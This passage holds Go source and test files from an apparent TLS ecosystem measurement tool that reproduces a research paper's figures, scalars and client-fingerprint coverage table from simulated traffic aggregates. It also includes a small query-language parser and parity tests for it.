	// §6.3.3 curve shares: each named curve over the all-curve wildcard.
	out = append(out,
		Scalar{"S6a", "secp256r1 share, whole dataset", 84.4,
			f.scalarOf(exprSecp256r1Share), "%"},
		Scalar{"S6b", "secp384r1 share, whole dataset", 8.6,
			f.scalarOf(exprSecp384r1Share), "%"},
		Scalar{"S6c", "x25519 share, whole dataset", 6.7,
			f.scalarOf(exprX25519Share), "%"},
	)
	if feb18, ok := f.Row(timeline.M(2018, time.February)); ok {
		grand := 0
		for _, c := range f.Curve {
			grand += c[feb18]
		}
		if grand > 0 {
			out = append(out, Scalar{"S6d", "x25519 share, Feb 2018", 22.2,
				f.scalarOf(exprX25519Feb18), "%"})
		}
	}
	return out
}

// FingerprintScalars extracts the §4.1 lifetime scalars.
func FingerprintScalars(agg *notary.Aggregate) []Scalar {
	st := fingerprint.ComputeDurationStats(agg.FPDurations())
	if st.Total == 0 {
		return nil
	}
	singleShare := 100 * float64(st.SingleDay) / float64(st.Total)
	longShare := 100 * float64(st.LongLived) / float64(st.Total)
	return []Scalar{
		{"S5a", "median fingerprint duration", 1, st.MedianDays, "days"},
		{"S5b", "single-day fingerprints", 100 * 42188.0 / 69874.0, singleShare, "%"},
		{"S5c", "fingerprints seen >1200 days", 100 * 1203.0 / 69874.0, longShare, "%"},
	}
}

// RenderScalars writes a paper-vs-measured table.
func RenderScalars(w io.Writer, title string, scalars []Scalar) error {
	if _, err := fmt.Fprintf(w, "%s\n%-8s %-42s %10s %10s %6s\n",
		title, "id", "metric", "paper", "measured", "unit"); err != nil {
		return err
	}
	sorted := make([]Scalar, len(scalars))
	copy(sorted, scalars)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i].ID < sorted[j].ID })
	for _, s := range sorted {
		if _, err := fmt.Fprintf(w, "%-8s %-42s %10.2f %10.2f %6s\n",
			s.ID, s.Name, s.Paper, s.Measured, s.Unit); err != nil {
			return err
		}
	}
	return nil
}

// Table2Report reproduces Table 2 against a traffic aggregate and the
// fingerprint database: per-class fingerprint counts from the DB and
// coverage (share of fingerprint-bearing connections attributed per class).
type Table2Report struct {
	Rows          []Table2Row
	TotalFPs      int
	TotalCoverage float64 // % of fingerprinted connections attributed
}

// Table2Row is one class row.
type Table2Row struct {
	Class    string
	NumFPs   int
	Coverage float64 // % of connections attributed to this class
}

// table2ClassExprs declares Table 2's per-class measurements as static query
// expressions over the agent: family, keyed by clientdb class name: coverage
// is the whole-window share of fingerprinted connections attributed to the
// class, conns the raw attributed volume (the row ranking key). Static like
// the catalog, they compile into every frame's shared plan set.
var table2ClassExprs = func() map[string]struct{ coverage, conns *Expr } {
	out := make(map[string]struct{ coverage, conns *Expr }, len(agentKeys))
	for slug, class := range agentKeys {
		out[class] = struct{ coverage, conns *Expr }{
			coverage: q("over(agent:" + slug + " / fp-conns)"),
			conns:    q("count(agent:" + slug + ")"),
		}
	}
	return out
}()

// exprTable2TotalCoverage is Table 2's "All" coverage: every attributed
// connection over every fingerprinted connection.
var exprTable2TotalCoverage = q("over(agent:* / fp-conns)")

// table2Exprs flattens the Table 2 expressions for shared-plan registration.
var table2Exprs = func() []*Expr {
	out := []*Expr{exprTable2TotalCoverage}
	for _, e := range table2ClassExprs {
		out = append(out, e.coverage, e.conns)
	}
	return out
}()

// BuildTable2Frame reproduces Table 2 from a frame through the query surface:
// every coverage number is the evaluation of an agent:-family expression
// against the frame's attribution columns. It matches BuildTable2 exactly —
// byte-for-byte through RenderTable2 — when the source aggregate's classifier
// is db, because the ingest-time ByClientClass counters then record the same
// attribution BuildTable2 recomputes by walking the per-month fingerprint
// tables.
func BuildTable2Frame(f *Frame, db *fingerprint.DB) Table2Report {
	rep := Table2Report{TotalFPs: db.Size(), TotalCoverage: f.scalarOf(exprTable2TotalCoverage)}
	counts := db.CountByClass()
	classes := make([]string, 0, len(counts))
	conns := make(map[string]float64, len(counts))
	for c := range counts {
		cls := string(c)
		classes = append(classes, cls)
		if e, ok := table2ClassExprs[cls]; ok {
			conns[cls] = f.scalarOf(e.conns)
		}
	}
	sort.Slice(classes, func(i, j int) bool {
		if conns[classes[i]] != conns[classes[j]] {
			return conns[classes[i]] > conns[classes[j]]
		}
		return classes[i] < classes[j]
	})
	for _, c := range classes {
		cov := 0.0
		if e, ok := table2ClassExprs[c]; ok {
			cov = f.scalarOf(e.coverage)
		}
		rep.Rows = append(rep.Rows, Table2Row{Class: c, NumFPs: counts[clientdb.Class(c)], Coverage: cov})
	}
	return rep
}

// BuildTable2 matches the database against every fingerprint-bearing record
// in the aggregate.
func BuildTable2(agg *notary.Aggregate, db *fingerprint.DB) Table2Report {
	classConns := map[string]int64{}
	var total, matched int64
	for _, m := range agg.Months() {
		for fp, caps := range agg.Stats(m).FPs {
			total += int64(caps.Count)
			if e, ok := db.Lookup(fingerprint.Fingerprint(fp)); ok {
				matched += int64(caps.Count)
				classConns[string(e.Class)] += int64(caps.Count)
			}
		}
	}
	rep := Table2Report{TotalFPs: db.Size()}
	if total > 0 {
		rep.TotalCoverage = 100 * float64(matched) / float64(total)
	}
	counts := db.CountByClass()
	classes := make([]string, 0, len(counts))
	for c := range counts {
		classes = append(classes, string(c))
	}
	// Rank by attributed volume with a name tie-break, so equal-volume
	// classes (all of them, on an unclassified window) order deterministically
	// and BuildTable2Frame can match byte-for-byte.
	sort.Slice(classes, func(i, j int) bool {
		if classConns[classes[i]] != classConns[classes[j]] {
			return classConns[classes[i]] > classConns[classes[j]]
		}
		return classes[i] < classes[j]
	})
	for _, c := range classes {
		cov := 0.0
		if total > 0 {
			cov = 100 * float64(classConns[c]) / float64(total)
		}
		rep.Rows = append(rep.Rows, Table2Row{Class: c, NumFPs: counts[clientdb.Class(c)], Coverage: cov})
	}
	return rep
}

// RenderTable2 writes the Table 2 reproduction.
func (r Table2Report) RenderTable2(w io.Writer) error {
	if _, err := fmt.Fprintf(w, "Table 2 — Fingerprint summary (DB size %d, coverage %.2f%% of fingerprinted connections)\n%-26s %8s %10s\n",
		r.TotalFPs, r.TotalCoverage, "class", "№ FPs", "coverage"); err != nil {
		return err
	}
	for _, row := range r.Rows {
		if _, err := fmt.Fprintf(w, "%-26s %8d %9.2f%%\n", row.Class, row.NumFPs, row.Coverage); err != nil {
			return err
		}
	}
	return nil
}
