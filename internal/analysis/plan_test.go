package analysis

import (
	"math/rand"
	"reflect"
	"testing"
	"time"

	"tlsage/internal/notary"
	"tlsage/internal/simulate"
	"tlsage/internal/timeline"
)

// testFrames builds a spread of frames the differential tests run over: the
// shared full-window frame, a small frame with a different seed, a narrow
// window that excludes most at() months, and the empty frame.
func testFrames(t testing.TB) []*Frame {
	t.Helper()
	small := simulate.DefaultOptions(60)
	small.Seed = 99
	narrow := simulate.DefaultOptions(40)
	narrow.Start = timeline.M(2016, time.January)
	narrow.End = timeline.M(2016, time.June)
	frames := []*Frame{sharedFrame(t), NewFrame(notary.NewAggregate())}
	for _, o := range []simulate.Options{small, narrow} {
		agg, err := simulate.New(o).RunAggregate()
		if err != nil {
			t.Fatal(err)
		}
		frames = append(frames, NewFrame(agg))
	}
	return frames
}

// assertSameResult requires two QueryResults to be bit-for-bit equal: same
// kind, same scalar value, same points.
func assertSameResult(t *testing.T, e *Expr, want, got QueryResult) {
	t.Helper()
	if want.Query != got.Query || want.Kind != got.Kind {
		t.Fatalf("%s: result header differs: (%q, %s) vs (%q, %s)",
			e, want.Query, want.Kind, got.Query, got.Kind)
	}
	if want.Value != got.Value {
		t.Fatalf("%s: scalar differs: %v vs %v", e, want.Value, got.Value)
	}
	if want.Series.Name != got.Series.Name ||
		!reflect.DeepEqual(want.Series.Points, got.Series.Points) {
		t.Fatalf("%s: series differs:\n%v\n%v", e, want.Series.Points, got.Series.Points)
	}
}

// TestCompileCatalogParity: every static expression in the package — all
// catalog metrics, impact metrics and passive scalars — must evaluate
// identically through the compiled plan and the interpreter, on every test
// frame including the empty one.
func TestCompileCatalogParity(t *testing.T) {
	var exprs []*Expr
	for _, spec := range catalog {
		for _, m := range spec.Metrics {
			exprs = append(exprs, m.Expr)
		}
	}
	for _, im := range impactMetrics {
		exprs = append(exprs, im.expr)
	}
	for _, s := range passiveScalarSpecs {
		exprs = append(exprs, s.Expr)
	}
	exprs = append(exprs, conditionalScalarExprs...)

	for _, f := range testFrames(t) {
		for _, e := range exprs {
			p, err := Compile(e, f)
			if err != nil {
				t.Fatalf("compile %s: %v", e, err)
			}
			want, err := f.Query(e)
			if err != nil {
				t.Fatalf("interpret %s: %v", e, err)
			}
			assertSameResult(t, e, want, p.Eval())
			// The memoized catalog plan must agree too.
			if mp := f.planFor(e); mp == nil {
				t.Fatalf("no shared plan for static expression %s", e)
			} else {
				assertSameResult(t, e, want, mp.Eval())
			}
		}
	}
}

// TestCompileRandomParity: the differential property test — randomly
// generated valid expressions must compile and evaluate bit-for-bit equal to
// the interpreter across frames of different seeds, windows and emptiness.
func TestCompileRandomParity(t *testing.T) {
	frames := testFrames(t)
	rnd := rand.New(rand.NewSource(42))
	for i := 0; i < 300; i++ {
		e := randomExpr(rnd, Kind(rnd.Intn(3)), 3)
		for _, f := range frames {
			p, err := Compile(e, f)
			if err != nil {
				t.Fatalf("compile %s: %v", e, err)
			}
			want, err := f.Query(e)
			if err != nil {
				t.Fatalf("interpret %s: %v", e, err)
			}
			assertSameResult(t, e, want, p.Eval())
			if p.Kind() != e.Kind() || p.Query() != e.String() {
				t.Fatalf("%s: plan metadata (%s, %q)", e, p.Kind(), p.Query())
			}
		}
	}
}

// TestCompileRejectsInvalid: compilation must validate, not trust, its input
// — the result cache keys on canonical text, so an invalid tree must never
// produce a plan (or a key).
func TestCompileRejectsInvalid(t *testing.T) {
	f := sharedFrame(t)
	bad := []*Expr{
		{Op: OpCol, Col: "no-such-column"},
		{Op: OpCol, Col: "pct(total / total)"}, // key-impersonation attempt
		{Op: OpPct, Args: []*Expr{{Op: OpCol, Col: "total"}}},
		{Op: OpAt, Month: "2018-13", Args: []*Expr{{Op: OpCol, Col: "total"}}},
	}
	for _, e := range bad {
		if _, err := Compile(e, f); err == nil {
			t.Errorf("Compile accepted invalid expr %q", e)
		}
	}
	if _, err := CompileQuery("pct(version:tls12 / established", f); err == nil {
		t.Error("CompileQuery accepted an unbalanced query")
	}
}

// TestPlanValidFor: a plan is valid for its own frame and for any frame with
// an identical layout fingerprint (same aggregate, rebuilt), and invalid for
// a frame of different content or for nil.
func TestPlanValidFor(t *testing.T) {
	f := sharedFrame(t)
	p, err := CompileQuery("pct(version:tls12 / established)", f)
	if err != nil {
		t.Fatal(err)
	}
	if !p.ValidFor(f) {
		t.Error("plan invalid for its own frame")
	}
	if p.Frame() != f {
		t.Error("Frame() identity")
	}
	rebuilt := NewFrame(sharedAgg(t))
	if rebuilt.Fingerprint() != f.Fingerprint() {
		t.Error("rebuilding the same aggregate changed the fingerprint")
	}
	if !p.ValidFor(rebuilt) {
		t.Error("plan invalid for an identical rebuild")
	}
	if p.ValidFor(nil) {
		t.Error("plan valid for nil frame")
	}
	other := NewFrame(notary.NewAggregate())
	if p.ValidFor(other) {
		t.Error("plan valid for a frame with different content")
	}
	if other.Fingerprint() == f.Fingerprint() {
		t.Error("empty and populated frames share a fingerprint")
	}
}

// TestPlanEvalAllocs pins the compiled engine's allocation discipline:
// series evaluation allocates only its result slice (nothing at all with a
// reused buffer), and scalar evaluation allocates nothing — including for
// sum() and wildcard selectors, which materialize at compile time.
func TestPlanEvalAllocs(t *testing.T) {
	f := sharedFrame(t)
	series := []string{
		"pct(version:tls12 / established)",
		"pct(sum(kex:ecdhe, kex:tls13) / established)",
		"pct(curve:x25519 / curve:*)",
		"position(aead)",
	}
	for _, src := range series {
		p, err := CompileQuery(src, f)
		if err != nil {
			t.Fatal(err)
		}
		if n := testing.AllocsPerRun(200, func() { p.EvalSeries() }); n > 1 {
			t.Errorf("%s: EvalSeries %.1f allocs/run, want 1 (the result slice)", src, n)
		}
		buf := make([]float64, f.Len())
		if n := testing.AllocsPerRun(200, func() { p.EvalSeriesInto(buf) }); n != 0 {
			t.Errorf("%s: EvalSeriesInto(reused) %.1f allocs/run, want 0", src, n)
		}
	}
	scalars := []string{
		"at(pct(adv-tls13 / total), 2018-04)",
		"over(curve:x25519 / curve:*)",
		"mean(pct(sum(version:tls12, version:tls13) / established))",
		"count(total)",
	}
	for _, src := range scalars {
		p, err := CompileQuery(src, f)
		if err != nil {
			t.Fatal(err)
		}
		if n := testing.AllocsPerRun(200, func() { p.EvalScalar() }); n != 0 {
			t.Errorf("%s: EvalScalar %.1f allocs/run, want 0", src, n)
		}
	}
}

// FuzzCompileEval extends FuzzParseQuery through the compiler: any input the
// parser accepts must compile, evaluate without panicking, and agree with
// the interpreter exactly.
func FuzzCompileEval(fz *testing.F) {
	for _, spec := range Catalog() {
		for _, m := range spec.Metrics {
			fz.Add(m.Expr.String())
		}
	}
	fz.Add("at(pct(adv-tls13 / total), 2018-04)")
	fz.Add("over(null-negotiated / established)")
	fz.Add("max(pct(curve:x25519 / curve:*))")
	fz.Add("count(sum(version:tls12, curve:*))")
	fz.Add("position(3des)")
	fz.Add("pct(fp:other / fp-conns)")
	fz.Add("pct(fp:0123456789ab / fp-conns)")
	fz.Add("over(agent:* / fp-conns)")
	fz.Add("count(sum(agent:libraries, agent:malware, fp:*))")
	small := simulate.DefaultOptions(30)
	agg, err := simulate.New(small).RunAggregate()
	if err != nil {
		fz.Fatal(err)
	}
	frames := []*Frame{NewFrame(agg), NewFrame(notary.NewAggregate())}
	fz.Fuzz(func(t *testing.T, src string) {
		e, err := ParseQuery(src)
		if err != nil {
			return
		}
		for _, f := range frames {
			p, err := Compile(e, f)
			if err != nil {
				t.Fatalf("parsed query %q fails to compile: %v", src, err)
			}
			want, err := f.Query(e)
			if err != nil {
				t.Fatalf("parsed query %q fails to interpret: %v", src, err)
			}
			got := p.Eval()
			if want.Kind != got.Kind || want.Value != got.Value ||
				!reflect.DeepEqual(want.Series.Points, got.Series.Points) {
				t.Fatalf("compiled and interpreted results differ for %q", src)
			}
		}
	})
}
