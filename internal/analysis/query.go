package analysis

import (
	"fmt"
	"strings"
)

// The compact query grammar, the human-facing encoding of Expr (JSON is the
// machine-facing one). Case-insensitive; whitespace is free. EBNF:
//
//	expr     := call | column
//	call     := ratio | reduce | "sum" "(" expr {"," expr} ")"
//	          | "position" "(" class ")" | "at" "(" expr "," month ")"
//	ratio    := ("pct" | "ratio" | "over") "(" expr "/" expr ")"
//	reduce   := ("count" | "mean" | "min" | "max" | "first" | "last") "(" expr ")"
//	column   := name | family ":" (key | "*")
//	month    := YYYY "-" MM
//
// Examples:
//
//	pct(version:tls12 / established)
//	pct(sum(kex:ecdhe, kex:tls13) / established)
//	at(pct(adv-tls13 / total), 2018-04)
//	over(null-negotiated / established)
//	position(3des)
//	max(pct(curve:x25519 / curve:*))
//
// "ratio" parses as an alias of "pct"; the canonical rendering (Expr.String)
// always prints "pct".

// queryOps names the call operations the parser accepts (beyond the ratio
// alias) and their slash-separated vs comma-separated argument shape.
var queryOps = map[string]string{
	"sum": OpSum, "pct": OpPct, "ratio": OpPct, "over": OpOver,
	"position": OpPosition, "at": OpAt, "count": OpCount,
	"mean": OpMean, "min": OpMin, "max": OpMax, "first": OpFirst, "last": OpLast,
}

// ParseQuery parses the compact text grammar into a validated expression.
func ParseQuery(src string) (*Expr, error) {
	p := &queryParser{src: src}
	e, err := p.parseExpr()
	if err != nil {
		return nil, fmt.Errorf("query %q: %w", src, err)
	}
	if tok, _ := p.next(); tok != "" {
		return nil, fmt.Errorf("query %q: trailing %q", src, tok)
	}
	if err := e.Validate(); err != nil {
		return nil, fmt.Errorf("query %q: %w", src, err)
	}
	// The freshly-parsed tree is private, so canonicalizing in place is
	// safe here — Validate itself never writes (shared specs are validated
	// concurrently).
	e.canonicalize()
	return e, nil
}

// canonicalize folds the tree's selectors to their canonical lowercase
// forms so String() output is stable (parse→format→parse is a fixpoint).
func (e *Expr) canonicalize() {
	e.Col = fold(e.Col)
	e.Class = fold(e.Class)
	for _, a := range e.Args {
		a.canonicalize()
	}
}

// queryParser is a tiny recursive-descent parser over four token shapes:
// words (column selectors, op names, month literals), "(", ")", "," and "/".
type queryParser struct {
	src string
	pos int
}

// isWordByte reports bytes that form word tokens: names, family:key
// selectors, wildcards and month literals.
func isWordByte(c byte) bool {
	return c == ':' || c == '*' || c == '-' || c == '_' || c == '.' ||
		'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || '0' <= c && c <= '9'
}

// next returns the next token ("" at end of input) and its position.
func (p *queryParser) next() (string, int) {
	for p.pos < len(p.src) && (p.src[p.pos] == ' ' || p.src[p.pos] == '\t' || p.src[p.pos] == '\n') {
		p.pos++
	}
	if p.pos >= len(p.src) {
		return "", p.pos
	}
	start := p.pos
	c := p.src[p.pos]
	if c == '(' || c == ')' || c == ',' || c == '/' {
		p.pos++
		return p.src[start:p.pos], start
	}
	if !isWordByte(c) {
		p.pos++
		return p.src[start:p.pos], start
	}
	for p.pos < len(p.src) && isWordByte(p.src[p.pos]) {
		p.pos++
	}
	return p.src[start:p.pos], start
}

// peek looks at the next token without consuming it.
func (p *queryParser) peek() string {
	save := p.pos
	tok, _ := p.next()
	p.pos = save
	return tok
}

func (p *queryParser) expect(want string) error {
	tok, at := p.next()
	if tok != want {
		return fmt.Errorf("expected %q at offset %d, got %q", want, at, tok)
	}
	return nil
}

func (p *queryParser) parseExpr() (*Expr, error) {
	tok, at := p.next()
	if tok == "" {
		return nil, fmt.Errorf("unexpected end of query")
	}
	if !isWordByte(tok[0]) {
		return nil, fmt.Errorf("unexpected %q at offset %d", tok, at)
	}
	op, isCall := queryOps[fold(tok)]
	if !isCall || p.peek() != "(" {
		// A bare word is a column selector; validation resolves it.
		return &Expr{Op: OpCol, Col: tok}, nil
	}
	p.next() // consume "("
	e := &Expr{Op: op}
	switch op {
	case OpPct, OpOver:
		num, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		if err := p.expect("/"); err != nil {
			return nil, err
		}
		den, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		e.Args = []*Expr{num, den}
	case OpSum:
		for {
			a, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			e.Args = append(e.Args, a)
			if p.peek() != "," {
				break
			}
			p.next()
		}
	case OpPosition:
		tok, at := p.next()
		if tok == "" || !isWordByte(tok[0]) {
			return nil, fmt.Errorf("position needs a suite class at offset %d", at)
		}
		e.Class = tok
	case OpAt:
		a, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		if err := p.expect(","); err != nil {
			return nil, err
		}
		m, at := p.next()
		if m == "" {
			return nil, fmt.Errorf("at needs a YYYY-MM month at offset %d", at)
		}
		e.Args, e.Month = []*Expr{a}, m
	default: // single-argument reductions
		a, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		e.Args = []*Expr{a}
	}
	if err := p.expect(")"); err != nil {
		return nil, err
	}
	return e, nil
}

// String renders the expression in the canonical text grammar; for a
// validated expression, ParseQuery(e.String()) reproduces e.
func (e *Expr) String() string {
	var b strings.Builder
	e.format(&b)
	return b.String()
}

func (e *Expr) format(b *strings.Builder) {
	if e == nil {
		b.WriteString("<nil>")
		return
	}
	switch e.Op {
	case OpCol:
		b.WriteString(e.Col)
	case OpPct, OpOver:
		b.WriteString(e.Op)
		b.WriteByte('(')
		if len(e.Args) == 2 {
			e.Args[0].format(b)
			b.WriteString(" / ")
			e.Args[1].format(b)
		}
		b.WriteByte(')')
	case OpPosition:
		b.WriteString("position(")
		b.WriteString(e.Class)
		b.WriteByte(')')
	case OpAt:
		b.WriteString("at(")
		if len(e.Args) == 1 {
			e.Args[0].format(b)
		}
		b.WriteString(", ")
		b.WriteString(e.Month)
		b.WriteByte(')')
	default:
		b.WriteString(e.Op)
		b.WriteByte('(')
		for i, a := range e.Args {
			if i > 0 {
				b.WriteString(", ")
			}
			a.format(b)
		}
		b.WriteByte(')')
	}
}
