package analysis

import (
	"bytes"
	"strings"
	"sync"
	"testing"
	"time"

	"tlsage/internal/fingerprint"
	"tlsage/internal/notary"
	"tlsage/internal/registry"
	"tlsage/internal/simulate"
	"tlsage/internal/timeline"
)

var (
	testAggOnce   sync.Once
	testAgg       *notary.Aggregate
	testFrameOnce sync.Once
	testFrame     *Frame
)

func sharedAgg(t testing.TB) *notary.Aggregate {
	t.Helper()
	testAggOnce.Do(func() {
		sim := simulate.New(simulate.DefaultOptions(400))
		var err error
		testAgg, err = sim.RunAggregate()
		if err != nil {
			panic(err)
		}
	})
	return testAgg
}

func sharedFrame(t testing.TB) *Frame {
	t.Helper()
	agg := sharedAgg(t)
	testFrameOnce.Do(func() { testFrame = NewFrame(agg) })
	return testFrame
}

// figByNum fetches one paper figure from the shared frame.
func figByNum(t testing.TB, n int) Figure {
	t.Helper()
	fig, ok := sharedFrame(t).FigureByNum(n)
	if !ok {
		t.Fatalf("no figure %d in catalog", n)
	}
	return fig
}

func TestAllFiguresBuild(t *testing.T) {
	agg := sharedAgg(t)
	figs := AllFigures(agg)
	if len(figs) != 10 {
		t.Fatalf("expected 10 figures, got %d", len(figs))
	}
	for _, f := range figs {
		if f.ID == "" || f.Title == "" || len(f.Series) == 0 {
			t.Errorf("figure %q malformed", f.ID)
		}
		for _, s := range f.Series {
			if len(s.Points) != 75 {
				t.Errorf("%s series %s has %d points, want 75", f.ID, s.Name, len(s.Points))
			}
			for _, p := range s.Points {
				if p.Value < 0 || p.Value > 100 {
					t.Errorf("%s %s at %v: value %f out of range", f.ID, s.Name, p.Month, p.Value)
				}
			}
		}
	}
}

func TestFigure1SeriesShape(t *testing.T) {
	f := figByNum(t, 1)
	tls10, ok := f.SeriesByName("TLSv10")
	if !ok {
		t.Fatal("TLSv10 series missing")
	}
	early, _ := tls10.Value(timeline.M(2012, time.April))
	late, _ := tls10.Value(timeline.M(2018, time.February))
	if early < 70 || late > 12 {
		t.Errorf("TLS1.0 series %0.1f → %0.1f lacks the paper's decline", early, late)
	}
	if len(f.Events) == 0 {
		t.Error("Figure 1 should carry attack events")
	}
}

func TestFigure8SeriesConsistency(t *testing.T) {
	f := figByNum(t, 8)
	rsa, _ := f.SeriesByName("RSA")
	ecdhe, _ := f.SeriesByName("ECDHE")
	rsaEarly, _ := rsa.Value(timeline.M(2012, time.June))
	ecdheLate, _ := ecdhe.Value(timeline.M(2018, time.March))
	if rsaEarly < 40 || ecdheLate < 70 {
		t.Errorf("Figure 8 shape off: RSA2012=%0.1f ECDHE2018=%0.1f", rsaEarly, ecdheLate)
	}
}

func TestRenderTable(t *testing.T) {
	f := figByNum(t, 2)
	var buf bytes.Buffer
	if err := f.RenderTable(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.Contains(out, "Figure 2") || !strings.Contains(out, "RC4") {
		t.Error("table rendering missing header")
	}
	if !strings.Contains(out, "2012-02") || !strings.Contains(out, "2018-04") {
		t.Error("table missing study endpoints")
	}
	// Event markers appear.
	if !strings.Contains(out, "Snowden") {
		t.Error("event annotation missing")
	}
	lines := strings.Count(out, "\n")
	if lines < 75 {
		t.Errorf("table has %d lines, want ≥75", lines)
	}
}

func TestRenderChart(t *testing.T) {
	f := figByNum(t, 6)
	var buf bytes.Buffer
	if err := f.RenderChart(&buf, 72, 14); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.Contains(out, "Figure 6") || !strings.Contains(out, "A=RC4 advertised") {
		t.Errorf("chart missing legend:\n%s", out)
	}
	if strings.Count(out, "|") < 28 {
		t.Error("chart grid missing")
	}
	// Degenerate dimensions fall back to defaults.
	var buf2 bytes.Buffer
	if err := f.RenderChart(&buf2, 1, 1); err != nil {
		t.Fatal(err)
	}
	// Empty figure renders a stub.
	empty := Figure{ID: "Figure X", Title: "empty"}
	var buf3 bytes.Buffer
	if err := empty.RenderChart(&buf3, 40, 10); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf3.String(), "no data") {
		t.Error("empty chart stub missing")
	}
}

func TestPassiveScalars(t *testing.T) {
	scalars := PassiveScalars(sharedAgg(t))
	if len(scalars) < 14 {
		t.Fatalf("expected ≥14 scalars, got %d", len(scalars))
	}
	byID := map[string]Scalar{}
	for _, s := range scalars {
		if s.ID == "" || s.Name == "" {
			t.Errorf("malformed scalar %+v", s)
		}
		byID[s.ID] = s
	}
	// Spot-check the big shape wins at this sample size.
	if s := byID["S-F1b"]; s.Measured < 75 {
		t.Errorf("TLS1.2 2018 measured %0.1f", s.Measured)
	}
	if s := byID["S6a"]; s.Measured < 55 {
		t.Errorf("secp256r1 share measured %0.1f", s.Measured)
	}
	if s := byID["S7c"]; s.Measured < 8 {
		t.Errorf("TLS1.3 Apr 2018 support measured %0.1f", s.Measured)
	}
	if byID["S-F1a"].Deviation() != byID["S-F1a"].Deviation() {
		t.Error("NaN deviation")
	}
	var buf bytes.Buffer
	if err := RenderScalars(&buf, "Passive scalars", scalars); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "S-F1a") {
		t.Error("scalar rendering incomplete")
	}
}

func TestFingerprintScalars(t *testing.T) {
	scalars := FingerprintScalars(sharedAgg(t))
	if len(scalars) != 3 {
		t.Fatalf("got %d fingerprint scalars", len(scalars))
	}
	// At this reduced sample size the single-day mass is smaller than the
	// paper's (median exactly 1 day shows up at study scale; see the
	// simulate tests); here assert the structural property only.
	var median, single Scalar
	for _, s := range scalars {
		switch s.ID {
		case "S5a":
			median = s
		case "S5b":
			single = s
		}
	}
	if single.Measured <= 0 {
		t.Error("no single-day fingerprints measured")
	}
	if median.Measured <= 0 {
		t.Error("median duration not measured")
	}
	if FingerprintScalars(notary.NewAggregate()) != nil {
		t.Error("empty aggregate should yield no scalars")
	}
}

func TestBuildTable2(t *testing.T) {
	agg := sharedAgg(t)
	db := fingerprint.BuildDefault()
	rep := BuildTable2(agg, db)
	if rep.TotalFPs < 1500 {
		t.Errorf("DB size %d", rep.TotalFPs)
	}
	// Coverage: the paper attributes 69.23% of fingerprinted connections.
	if rep.TotalCoverage < 50 || rep.TotalCoverage > 85 {
		t.Errorf("coverage = %0.1f%%, want ≈69%%", rep.TotalCoverage)
	}
	if len(rep.Rows) < 8 {
		t.Fatalf("only %d class rows", len(rep.Rows))
	}
	// Libraries lead coverage (Table 2's ordering).
	if rep.Rows[0].Class != "Libraries" {
		t.Errorf("top class = %s, want Libraries", rep.Rows[0].Class)
	}
	var buf bytes.Buffer
	if err := rep.RenderTable2(&buf); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "Libraries") {
		t.Error("Table 2 rendering incomplete")
	}
}

func TestCurveSharesOrdered(t *testing.T) {
	shares := CurveSharesOverall(sharedAgg(t))
	if len(shares) == 0 {
		t.Fatal("no curve shares")
	}
	sum := 0.0
	for i, s := range shares {
		sum += s.Share
		if i > 0 && shares[i-1].Share < s.Share {
			t.Error("shares not descending")
		}
	}
	if sum < 99.9 || sum > 100.1 {
		t.Errorf("shares sum to %0.2f", sum)
	}
	if shares[0].Curve != registry.CurveSecp256r1 {
		t.Errorf("top curve = %v, want secp256r1", shares[0].Curve)
	}
}

func TestSeriesValueMissing(t *testing.T) {
	s := Series{Name: "x", Points: []Point{{Month: timeline.M(2015, time.June), Value: 5}}}
	if _, ok := s.Value(timeline.M(2015, time.July)); ok {
		t.Error("missing month reported present")
	}
	f := Figure{ID: "f", Series: []Series{s}}
	if _, ok := f.SeriesByName("y"); ok {
		t.Error("missing series reported present")
	}
}

func TestExtensionUptake(t *testing.T) {
	f, ok := sharedFrame(t).FigureByName("extensions")
	if !ok {
		t.Fatal("extensions figure missing from catalog")
	}
	if f.ID != "Figure E1" || len(f.Series) != 7 {
		t.Fatalf("figure: %s with %d series", f.ID, len(f.Series))
	}
	rie, _ := f.SeriesByName("renegotiation_info")
	etm, _ := f.SeriesByName("encrypt_then_mac")
	sv, _ := f.SeriesByName("supported_versions")
	hb, _ := f.SeriesByName("heartbeat")

	// RIE is near-universal across the study (the post-renegotiation-attack
	// response the paper mentions in §9).
	if v, _ := rie.Value(timeline.M(2016, time.June)); v < 80 {
		t.Errorf("renegotiation_info Jun 2016 = %0.1f%%", v)
	}
	// Encrypt-then-MAC saw "very limited take up" (§9).
	for _, p := range etm.Points {
		if p.Value > 5 {
			t.Errorf("encrypt_then_mac at %v = %0.1f%%, should stay tiny", p.Month, p.Value)
		}
	}
	// supported_versions only appears with the 2018 TLS 1.3 rollouts.
	if v, _ := sv.Value(timeline.M(2016, time.June)); v > 0.5 {
		t.Errorf("supported_versions in 2016 = %0.1f%%", v)
	}
	if v, _ := sv.Value(timeline.M(2018, time.April)); v <= 2 {
		t.Errorf("supported_versions Apr 2018 = %0.1f%%, should have taken off", v)
	}
	// Heartbeat advertisement rises with OpenSSL 1.0.1 and falls after 1.1.0.
	peak, _ := hb.Value(timeline.M(2015, time.June))
	late, _ := hb.Value(timeline.M(2018, time.March))
	if peak < 8 || late >= peak {
		t.Errorf("heartbeat advertisement %0.1f%% → %0.1f%% lacks rise-and-fall", peak, late)
	}
}

func TestAttackImpacts(t *testing.T) {
	impacts := AttackImpacts(sharedAgg(t))
	if len(impacts) < 6 {
		t.Fatalf("only %d impacts", len(impacts))
	}
	byEvent := map[string]AttackImpact{}
	for _, im := range impacts {
		byEvent[im.Event.Name] = im
	}
	// Snowden: forward secrecy rises strongly within a year (§7.4).
	if im, ok := byEvent[timeline.EventSnowden]; !ok || im.Delta12() < 8 {
		t.Errorf("Snowden FS delta = %+0.1f, want strong rise", im.Delta12())
	}
	// Lucky 13: no clear CBC decline within a year ("no clear change in
	// traffic", §7.4) — CBC may even rise as TLS 1.2 rolls out.
	if im, ok := byEvent[timeline.EventLucky13]; !ok || im.Delta12() < -10 {
